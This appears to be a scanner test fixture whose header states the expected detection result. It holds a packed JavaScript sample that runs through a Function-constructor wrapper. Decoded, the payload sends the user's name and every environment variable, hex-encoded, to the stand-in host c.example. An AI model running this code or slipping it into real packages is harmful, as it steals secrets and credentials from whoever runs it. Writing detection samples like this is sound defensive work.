// expect: category=obfuscation min=80 context=plugin,package
// why: a packer variant with other names and a Function wrapper instead of a literal eval call.
var unpack = function (src, radix, count, words) {
  var dict = {};
  while (count--) dict[count.toString(radix)] = words[count] || count.toString(radix);
  return src.replace(/\b\w+\b/g, function (t) {
    return dict[t] || t;
  });
};
var runner = [].map.constructor;
runner(unpack("0 1=2('3'),4=2('5');4.6('5://7.8/9?a='+1.b().c+'&d='+e.f(g.h(i.j)).k('l'))", 36, 22,
  'var|o|require|os|h|https|get|c|example|p|u|userInfo|username|e|Buffer|from|JSON|stringify|process|env|toString|hex'.split('|')))();
